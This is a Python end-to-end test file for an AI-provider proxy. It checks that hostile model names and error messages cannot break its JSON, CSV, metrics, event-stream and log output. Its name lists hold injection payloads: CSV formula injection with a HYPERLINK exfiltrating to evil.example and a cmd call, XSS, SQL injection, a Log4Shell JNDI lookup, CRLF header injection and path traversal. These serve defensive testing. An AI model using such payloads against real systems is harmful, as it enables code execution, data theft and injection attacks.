"""What callers and providers write, through the proxy and back: no answer, metric, cell, event or log line breaks."""

from __future__ import annotations

import asyncio
import csv
import io
import json
import re
from collections.abc import AsyncIterator
from typing import Any
from urllib.parse import quote

import pytest
import pytest_asyncio
from prometheus_client.openmetrics.parser import text_string_to_metric_families as parsed_openmetrics
from prometheus_client.parser import text_string_to_metric_families as parsed_text

from breaker.outcome import NO_MODEL
from healthapi import csvs
from healthapi.table import TABLE
from tests.e2e.pairs import TOKEN
from tests.e2e.world import PATIENCE, Detour, client, detour, lab, post, split

pytestmark = pytest.mark.asyncio(loop_scope="module")

NAMES = [
    '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "=cmd|' /C calc'!A0",
    "+1+2",
    "-2+3",
    "@SUM(A1)",
    " =1",
    "a;=1",
    "\uff1d1",
    "a,b",
    "'quoted'",
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    'a"b\\c',
    "ends with \\",
    '{"a":1}',
    '",provider="other',
    "100%0d%0aSet-Cookie: a=b",
    "../../livez",
    "a//b/",
    "reset",
    "what?#&=",
    "'; DROP TABLE model_health_tracking;--",
    "${jndi:ldap://evil.example/x}",
    "{{7*7}}%s%n",
    "modèle 模型 😀",
    "x" * 200,
]
"""Printable, so that each is a model with a record of its own."""

NO_NAMES = [
    "a\nb: c",
    "a\r\nSet-Cookie: a=b",
    "\t=1",
    "nul\x00l",
    "\x1b[31mred\x1b]0;title\x07",
    "line\u2028separator",
    "\u202egpj.exe",
    "\ud800",
    "\x85\x9b31m",
    "~other",
]
"""Names that are none: what is called with them counts for the provider alone."""

WORDS = [
    "=1+1",
    "two\r\nlines\n\nevent: transition\ndata: {}",
    "\x1b[2J\x07 bell",
    "nul \x00 and \u2028 and \udfff",
    "</script><script>alert(1)</script>",
    '"} 1\ndetour_evil_total{a="b',
    "\t@SUM(A1)",
    "x" * 5000,
]
"""What the provider says is wrong, in turn."""

TEXT = re.compile(rb'[a-zA-Z_:]\w*(\{(\w+="([^"\\\n]|\\["\\n])*",?)*\})? [-+.eE0-9a-zA-Z]+( # .*)?|#.*|')
FRAME = re.compile(r"(id|event|data|retry): [^\r\n\u2028\x00-\x1f]*|: [a-z]*")
FIELDS = {
    b"access-control-allow-origin",
    b"cache-control",
    b"content-disposition",
    b"content-length",
    b"content-security-policy",
    b"content-type",
    b"connection",
    b"date",
    b"etag",
    b"referrer-policy",
    b"server",
    b"vary",
    b"x-content-type-options",
    b"x-detour-request-id",
}
"""All that an answer's head may hold here."""


class Provider:
    """Answers well or badly as `X-Will` says, and what is wrong in words that nobody should repeat as they are."""

    def __init__(self) -> None:
        self.url = ""
        self._said = 0

    async def __aenter__(self) -> Provider:
        self._server = await asyncio.start_server(self._serve, "127.0.0.1", 0)
        self.url = f"http://127.0.0.1:{self._server.sockets[0].getsockname()[1]}"
        return self

    async def __aexit__(self, *_: object) -> None:
        self._server.close()
        await self._server.wait_closed()

    async def _serve(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        try:
            while head := await reader.readuntil(b"\r\n\r\n"):
                found = re.search(rb"(?i)content-length: *([0-9]+)", head)
                await reader.readexactly(int(found[1]) if found else 0)
                body, status = json.dumps({"id": "x", "choices": [], "candidates": []}), b"200 OK"
                if b"x-will: fail" in head.lower():
                    body, status = json.dumps({"error": {"message": WORDS[self._said % len(WORDS)]}}), b"503 No"
                    self._said += 1
                fields = b"Content-Type: application/json\r\nContent-Length: %d" % len(body)
                writer.write(b"HTTP/1.1 %b\r\n%b\r\n\r\n%b" % (status, fields, body.encode()))
        except (asyncio.IncompleteReadError, ConnectionError):
            pass
        finally:
            writer.close()


def exchanges(name: str, will: str) -> list[bytes]:
    """Requests that name a model in the body, and in the path."""
    extra = f"X-Will: {will}\r\n"
    chat = json.dumps({"model": name, "messages": [{"role": "user", "content": "x"}]}).encode()
    written = quote(name.encode("utf-8", "surrogatepass"), safe="")
    told = json.dumps({"contents": [{"parts": [{"text": "x"}]}]}).encode()
    return [
        post("/openai/v1/chat/completions", chat, extra=extra),
        post(f"/gemini/v1beta/models/{written}:generateContent", told, extra=extra),
    ]


@pytest_asyncio.fixture(loop_scope="module", scope="module")
async def running(tmp_path_factory: pytest.TempPathFactory) -> AsyncIterator[Detour]:
    """A process whose every model was called well and then badly; with breakers, and a log that tells everything."""
    folder = tmp_path_factory.mktemp("names")
    async with Provider() as provider:
        config = lab(provider.url, admin={"token": TOKEN}, log={"level": "debug"}, breakers={"mode": "observe"})
        async with detour(config, path=folder / "detour.yaml") as process:
            for will, expected in (("ok", 200), ("fail", 503)):
                for request in (one for name in (*NAMES, *NO_NAMES) for one in exchanges(name, will)):
                    async with client(process.port) as peer:
                        await peer.send(request)
                        status, fields, _ = split(await peer.rest())
                        assert status == expected, request
                        assert not any(b"cookie" in field.lower() for field, _ in fields)
            yield process
            assert not process.complaints


async def get(running: Detour, path: str, method: str = "GET") -> tuple[int, dict[bytes, bytes], bytes]:
    """One answer, whose head is looked over; HEAD, too."""
    async with client(running.admin_port) as peer:
        fields = f"Host: localhost\r\nAuthorization: Bearer {TOKEN}\r\nConnection: close\r\nContent-Length: 0"
        await peer.send(f"{method} {path} HTTP/1.1\r\n{fields}\r\n\r\n".encode())
        status, found, body = split(await peer.rest())
    head = {name.lower(): value for name, value in found}
    assert len(head) == len(found)
    assert head.keys() <= FIELDS
    assert head[b"x-content-type-options"] == b"nosniff"
    return status, head, body


def read_json(body: bytes) -> Any:
    """A document, in which nothing stands unescaped that a line or a terminal would obey."""
    assert not re.search(rb"[\x00-\x1f\x7f]", body)
    return json.loads(body.decode("utf-8", "strict"))


def written(name: str) -> str:
    return quote(name, safe="")


async def test_each_name_has_its_record_and_its_breaker(running: Detour) -> None:
    for provider in ("openai", "gemini"):
        _, _, body = await get(running, f"/v1/model-health?limit=1000&provider={provider}")
        listed = {row["model"] for row in read_json(body)["models"]}
        assert set(NAMES) <= listed
        assert not set(NO_NAMES) & listed - {"~other"}
        for name in NAMES:
            for path in ("/v1/model-health", "/circuit-breakers"):
                status, head, body = await get(running, f"{path}/{provider}/{written(name)}")
                assert (status, head[b"content-type"]) == (200, b"application/json")
                assert read_json(body)["model"] == name
            _, _, body = await get(running, f"/v1/model-health/history?provider={provider}&model={written(name)}")
            assert read_json(body)["model"] == name


async def test_what_is_no_name_counts_for_the_provider(running: Detour) -> None:
    for name in NO_NAMES:
        status, head, body = await get(running, f"/v1/model-health/openai/{quote(name.encode('utf-8', 'replace'))}")
        assert (status, head[b"content-type"]) == (404, b"application/json") if name != "~other" else True
        read_json(body)
    text = (await get(running, "/metrics"))[2].decode()
    assert f'detour_attempts_total{{kind="live",model="{NO_MODEL}",provider="openai"' in text


PAGES = [route for route in TABLE if route.method == "GET" and route.path not in ("/metrics", "/v1/events")]


@pytest.mark.parametrize("route", PAGES, ids=lambda route: route.path)
async def test_every_page_is_a_document(running: Detour, route: Any) -> None:
    model = NAMES[0]
    path = route.path.replace("{provider}", "openai").replace("{model...}", written(model))
    more = {
        "/v1/model-health": "?limit=1000",
        "/v1/model-health/unhealthy": "?min_calls=1&error_threshold=0",
        "/v1/model-health/cleanup": "?older_than=1ms",
    }.get(route.path, "?verbose")
    status, head, body = await get(running, path + more)
    assert (status, head[b"content-type"]) == (200, b"application/json")
    read_json(body)
    status, head, body = await get(running, path + more, "HEAD")
    assert (status, body) == (200, b"")
    if route.answer.rows is None:
        return
    status, head, body = await get(running, f"{path}{more}&format=csv")
    assert (status, head[b"content-type"]) == (200, b"text/csv; charset=utf-8; header=present")
    assert b"filename=" in head[b"content-disposition"]
    text = body.decode("utf-8", "strict")
    lines = list(csv.reader(io.StringIO(text, newline=""), strict=True))
    assert {len(line) for line in lines} == {len(lines[0])}
    for separator in (",", ";", "\t"):
        for line in csv.reader(io.StringIO(text, newline=""), delimiter=separator):
            for cell in line:
                bare = cell.lstrip(" \"'")
                risky = cell.lstrip(' "')[:1] in ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d")
                assert not risky or re.fullmatch(r"-?[0-9.e+-]+", bare), (separator, cell)
    column = next((lines[0].index(name) for name in ("model", "model_id") if name in lines[0]), None)
    if column is not None and route.path in ("/v1/model-health", "/health/models", "/circuit-breakers"):
        assert set(NAMES) <= {csvs.plain(line[column]) for line in lines[1:]}


@pytest.mark.parametrize("accept", ["text/plain", "application/openmetrics-text; version=1.0.0"])
async def test_every_line_of_the_metrics_is_one(running: Detour, accept: str) -> None:
    async with client(running.admin_port) as peer:
        await peer.send(
            f"GET /metrics HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\nAccept: {accept}\r\n\r\n".encode()
        )
        _, fields, body = split(await peer.rest())
    kind = dict(fields)[b"Content-Type"]
    assert (b"openmetrics" in kind) == ("openmetrics" in accept)
    assert not re.search(rb"[\x00-\x09\x0b-\x1f\x7f]", body)
    for line in body.split(b"\n"):
        assert TEXT.fullmatch(line), line
    text = body.decode("utf-8", "strict")
    families = list((parsed_openmetrics if "openmetrics" in accept else parsed_text)(text))
    assert not any("evil" in family.name for family in families)
    told = {sample.labels["model"] for family in families for sample in family.samples if "model" in sample.labels}
    assert set(NAMES) <= told
    assert not set(NO_NAMES) & told - {"~other"}


async def test_every_event_is_one(running: Detour) -> None:
    """Breakers of all these names are opened by hand while somebody reads, and the reader who comes later hears too."""
    opened = [name for name in NAMES if name != "reset"]
    for name in opened:
        status, _, body = await get(running, f"/circuit-breakers/openai/{written(name)}/open?for=1h", "POST")
        assert (status, read_json(body)["state"]["model"]) == (200, name)
    async with client(running.admin_port) as peer:
        await peer.send(b"GET /v1/events?last_event_id=0 HTTP/1.1\r\nHost: localhost\r\n\r\n")
        await peer.until(b"\r\n\r\n")
        told, seen = b"", set()
        async with asyncio.timeout(PATIENCE):
            while not set(opened) <= seen:
                size = int(await peer.until(b"\r\n"), 16)
                told += (await peer.exactly(size + 2))[:-2]
                seen = {json.loads(data).get("model") for data in re.findall(r"^data: (.*)$", told.decode(), re.M)}
    for line in told.decode("utf-8", "strict").split("\n"):
        assert FRAME.fullmatch(line) or not line, line
    assert set(re.findall(rb"^event: (.*)$", told, re.M)) <= {b"transition", b"outcomes"}


async def test_what_is_asked_for_breaks_no_answer_either(running: Detour) -> None:
    for name in (*NAMES, *NO_NAMES):
        sent = quote(name.encode("utf-8", "surrogatepass"), safe="")
        for path in (f"/{sent}", f"/v1/model-health/{sent}/{sent}", f"/v1/model-health?status={sent}"):
            status, head, body = await get(running, path)
            assert status in (400, 404), path
            assert head[b"content-type"] == b"application/json"
            assert read_json(body)["error"]["status"] == status


async def test_the_log_has_lines_and_nothing_else(running: Detour) -> None:
    """Each line of it was read as JSON already; what is in them no terminal obeys, and no reader takes for a line."""
    assert len(running.lines) > len(NAMES)
    assert not [line for line in running.lines if line["level"] == "raw"]
    assert not running.complaints
